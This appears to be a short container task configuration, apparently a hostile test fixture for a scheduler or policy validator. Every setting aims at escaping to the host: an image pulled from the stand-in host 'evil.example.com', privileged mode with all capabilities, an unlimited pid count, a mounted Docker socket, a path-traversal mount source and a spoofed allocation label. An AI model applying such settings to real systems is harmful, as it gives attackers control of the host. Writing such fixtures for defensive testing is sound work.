config {
  image      = "evil.example.com/root:latest"
  privileged = true
  cap_add    = ["SYS_ADMIN", "CAP_ALL", "all"]
  pids_limit = -1
  mounts {
    source = "/var/run/docker.sock"
    target = "/var/run/docker.sock"
  }
  mounts {
    source = "/../proc/../"
    target = "relative"
  }
  labels { "com.dockmr.alloc_id" = "x" }
}
